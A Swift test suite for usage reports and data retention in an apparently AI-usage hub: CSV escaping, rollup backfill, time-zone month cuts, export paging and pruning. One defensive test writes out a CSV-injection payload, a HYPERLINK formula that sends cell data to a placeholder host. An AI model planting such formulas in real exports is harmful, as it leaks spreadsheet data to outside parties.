import Foundation
import GRDB
import HubTestSupport
import Testing
@testable import HubCore

/// The hourly rollup, its backfill, the chargeback month in a time zone, export paging and pruning,
/// in-process on real SQLite files.
@Suite struct ReportsAndRetentionTests {
    /// A model name a client chose is text, never a formula a spreadsheet runs (review finding: CSV
    /// injection); amounts, negative ones too, stay numbers.
    @Test func freeTextCellsCannotBecomeFormulas() async throws {
        #expect(ReportCSV.text(#"=HYPERLINK("http://x/?"&A1,"x")"#) == #"'=HYPERLINK("http://x/?"&A1,"x")"#)
        for start in ["+", "-", "@", "\t", "\r"] { #expect(ReportCSV.text(start + "1") == "'" + start + "1") }
        #expect(ReportCSV.text("openai/gpt-4o") == "openai/gpt-4o" && ReportCSV.text("") == "")
        var event = UsageEvent(requestId: "r1", userId: 1, apiKeyId: 1, providerId: 1, model: "=1+1", status: 200)
        event.providerCost = Amount(nanos: -5)
        let line = String(decoding: try ReportCSV.usage([event]), as: UTF8.self)
        #expect(line.contains(",'=1+1,") && line.contains(",-0.000000005,"))
    }

    @Test func aNewDatabaseHandsFreedPagesBackIncrementally() async throws {
        let hub = try TemporaryHub()
        #expect(try await hub.store.read { db in try UsageRetention.isIncremental(db) })
        #expect(try hub.store.sqliteRead { db in try String.fetchOne(db, sql: "PRAGMA journal_mode") } == "wal")
        #expect(try await hub.run(Admin.RetentionGet()).incrementalVacuum)
    }

    @Test func theMigrationFillsTheHourlyRollupFromExistingEvents() async throws {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("backfill-\(UUID().uuidString).sqlite").path
        defer { for suffix in ["", "-wal", "-shm"] { try? FileManager.default.removeItem(atPath: path + suffix) } }
        let queue = try DatabaseQueue(path: path)
        try Schema.migrator.migrate(queue, upTo: "governance: teams")
        try await queue.write { db in
            try db.execute(sql: "INSERT INTO teams (name, created_at) VALUES ('research', CURRENT_TIMESTAMP)")
            try db.execute(sql: "INSERT INTO users (name, created_at) VALUES ('ann', CURRENT_TIMESTAMP)")
            for index in 0..<500 {
                try db.execute(sql: """
                    INSERT INTO usage_events (request_id, user_id, team_id, model, tokens_in, tokens_out, provider_cost,
                                              credits_charged, latency_ms, status, usage_source, created_at)
                    VALUES (?, ?, ?, ?, ?, 3, ?, ?, 10, ?, 'upstream', ?)
                    """, arguments: ["r\(index)", index % 3 == 0 ? nil : 1, index % 2 == 0 ? 1 : nil, "m\(index % 4)",
                                     index, 1_000_000_007 * Int64(index), 3 * Int64(index), index % 9 == 0 ? 500 : 200,
                                     Date(timeIntervalSince1970: 1_790_000_000 + Double(index) * 1_111)])
            }
        }
        try Schema.migrator.migrate(queue)
        let (fromEvents, fromRollup) = try queue.read { db in
            (try Row.fetchAll(db, sql: """
                SELECT substr(created_at, 1, 13), COALESCE(user_id, 0), COALESCE(team_id, 0), model, COUNT(*),
                       SUM(status >= 400), SUM(tokens_in), SUM(provider_cost), SUM(credits_charged)
                FROM usage_events GROUP BY 1, 2, 3, 4 ORDER BY 1, 2, 3, 4
                """),
             try Row.fetchAll(db, sql: """
                SELECT hour, user_id, team_id, model, requests, errors, tokens_in, provider_cost, credits_charged
                FROM usage_hourly ORDER BY 1, 2, 3, 4
                """))
        }
        #expect(fromRollup.count > 100)
        #expect(fromRollup.map { Array($0.databaseValues) } == fromEvents.map { Array($0.databaseValues) })
    }

    @Test func aMonthIsCutAtMidnightOfTheGovernanceTimeZone() async throws {
        #expect(try GovernanceTimeZone.monthHours("2026-11", in: GovernanceTimeZone.utc) == ("2026-11-01 00", "2026-12-01 00"))
        let berlin = try #require(TimeZone(identifier: "Europe/Berlin"))
        // November starts at 23:00 UTC the day before (CET, +1); April at 22:00 (CEST, +2).
        #expect(try GovernanceTimeZone.monthHours("2026-11", in: berlin) == ("2026-10-31 23", "2026-11-30 23"))
        #expect(try GovernanceTimeZone.monthHours("2026-04", in: berlin) == ("2026-03-31 22", "2026-04-30 22"))
        #expect(try GovernanceTimeZone.monthHours("2026-12", in: berlin) == ("2026-11-30 23", "2026-12-31 23"))
        // +5:30: the month starts with the UTC hour holding its first instant.
        let kolkata = try #require(TimeZone(identifier: "Asia/Kolkata"))
        #expect(try GovernanceTimeZone.monthHours("2026-11", in: kolkata) == ("2026-10-31 18", "2026-11-30 18"))
        for bad in ["2026-13", "2026-1", "26-11", "2026/11", "", "2026-00"] {
            #expect(throws: HubError.self, "\(bad)") { try GovernanceTimeZone.monthHours(bad, in: berlin) }
        }
    }

    @Test func exportPagesGiveEveryEventOnceEvenWhenTimesTie() async throws {
        let hub = try TemporaryHub()
        let tie = Date(timeIntervalSince1970: 1_795_000_000)
        try hub.store.sqliteWrite { db in
            for index in 0..<257 {
                // Most events share one timestamp: pages must not skip or repeat them at a page boundary.
                let at = index % 5 == 0 ? tie.addingTimeInterval(Double(index)) : tie
                var event = UsageEvent(requestId: "r\(index)", userId: nil, apiKeyId: nil, providerId: nil, model: "m",
                                       status: 200, createdAt: at)
                try event.insert(db)
            }
        }
        var seen: [Int64] = []
        var request = Admin.UsageExport(since: tie, until: tie.addingTimeInterval(3_600), limit: 7)
        while true {
            let page = try await hub.run(request)
            #expect(page.events.count <= 7)
            seen += page.events.compactMap(\.id)
            guard let next = page.next else { break }
            request.after = next
        }
        #expect(seen.count == 257)
        #expect(Set(seen).count == 257)
        let times = try hub.store.sqliteRead { db in
            try Dictionary(uniqueKeysWithValues: UsageEvent.fetchAll(db).map { ($0.id!, $0.createdAt) })
        }
        #expect(seen.map { times[$0]! } == seen.map { times[$0]! }.sorted())
        // The range is [since, until): the first second's events only.
        let first = try await hub.run(Admin.UsageExport(since: tie, until: tie.addingTimeInterval(1), limit: 1_000))
        #expect(first.events.count == 257 - 52 + 1)   // 52 of them (index 0, 5, … 255) are later but index 0
        #expect(first.next == nil)
    }

    @Test func pruningDeletesOnlyOldEventsAndLeavesEveryRollupAsItWas() async throws {
        let hub = try TemporaryHub()
        let now = try Date("2026-11-20T12:00:00Z", strategy: .iso8601)   // 30 days back is before this month
        try hub.store.sqliteWrite { db in
            for index in 0..<3_000 {
                var event = UsageEvent(requestId: "r\(index)", userId: nil, apiKeyId: nil, providerId: nil, model: "m\(index % 3)",
                                       tokensIn: Int64(index), providerCost: Amount(nanos: 7 * Int64(index) + 1),
                                       status: 200, createdAt: now.addingTimeInterval(-Double(index) * 3_600))
                try event.insert(db)
            }
        }
        let rollups = { try hub.store.sqliteRead { db in
            try ["usage_daily", "usage_hourly", "usage_health_hourly"].flatMap { table in
                try Row.fetchAll(db, sql: "SELECT * FROM \(table) ORDER BY 1, 2, 3, 4").map { "\(table) \($0)" }
            }
        } }
        let before = try rollups()
        let month = String(UsageRollup.day(now.addingTimeInterval(-60 * 86_400)).prefix(7))
        let reportBefore = try await hub.run(Admin.ReportChargeback(month: month, by: .model))
        #expect(reportBefore.total.calls > 600)

        try await hub.run(Admin.RetentionSet(days: 30))
        let cutoff = try #require(try await UsageRetention.cutoff(hub.store, now: now))
        var pruned = 0
        while true {
            let count = try await UsageRetention.pruneBatch(hub.store, before: cutoff, limit: 250, now: now).pruned
            pruned += count
            if count < 250 { break }
        }
        #expect(pruned == 3_000 - 30 * 24 - 1)
        let status = try await hub.run(Admin.RetentionGet())
        #expect(status.events == 30 * 24 + 1)
        #expect(status.prunedTotal == Int64(pruned))
        #expect(try #require(status.oldestEvent) >= cutoff.addingTimeInterval(-1))
        #expect(try rollups() == before)
        #expect(try await hub.run(Admin.ReportChargeback(month: month, by: .model)) == reportBefore)
        // Freed pages go back to the file system.
        let freeBefore = try hub.store.sqliteRead { db in try Int.fetchOne(db, sql: "PRAGMA freelist_count") ?? 0 }
        #expect(freeBefore > 0)
        #expect(try await UsageRetention.vacuumStep(hub.store, pages: 100_000).free == 0)
    }

    @Test func retentionKeepsTheEventsOfTheCurrentBudgetMonthAndWeek() async throws {
        let utc = GovernanceTimeZone.utc
        let at = { (text: String) throws -> Date in try Date(text, strategy: .iso8601) }
        // 30 days before 31 Dec 18:00 is 1 Dec 18:00: December's budgets still count 1 Dec, so it stays.
        #expect(UsageRetention.cutoff(days: 30, now: try at("2026-12-31T18:00:00Z"), zone: utc) == (try at("2026-12-01T00:00:00Z")))
        // 1 day before Wednesday 18 Nov: November's events stay.
        #expect(UsageRetention.cutoff(days: 1, now: try at("2026-11-18T09:00:00Z"), zone: utc) == (try at("2026-11-01T00:00:00Z")))
        // 1 day before Wednesday 2 Dec: the week began on Monday 30 Nov, in November.
        #expect(UsageRetention.cutoff(days: 1, now: try at("2026-12-02T09:00:00Z"), zone: utc) == (try at("2026-11-30T00:00:00Z")))
        // In Berlin, Monday 30 Nov began at 23:00 UTC on the 29th.
        let berlin = try #require(TimeZone(identifier: "Europe/Berlin"))
        #expect(UsageRetention.cutoff(days: 1, now: try at("2026-12-02T09:00:00Z"), zone: berlin) == (try at("2026-11-29T23:00:00Z")))
        // Far enough back, the days decide.
        #expect(UsageRetention.cutoff(days: 90, now: try at("2026-11-18T09:00:00Z"), zone: utc) == (try at("2026-08-20T09:00:00Z")))
    }

    @Test func retentionRefusesDaysOutOfRangeAndChangesNothing() async throws {
        let hub = try TemporaryHub()
        try await hub.run(Admin.RetentionSet(days: 90))
        let before = try hub.snapshot()
        for days in [0, -1, 36_501] {
            await #expect(throws: HubError.self) { try await hub.run(Admin.RetentionSet(days: days)) }
        }
        #expect(try hub.snapshot() == before)
        #expect(try await hub.run(Admin.RetentionSet(days: nil)).days == nil)
    }
}
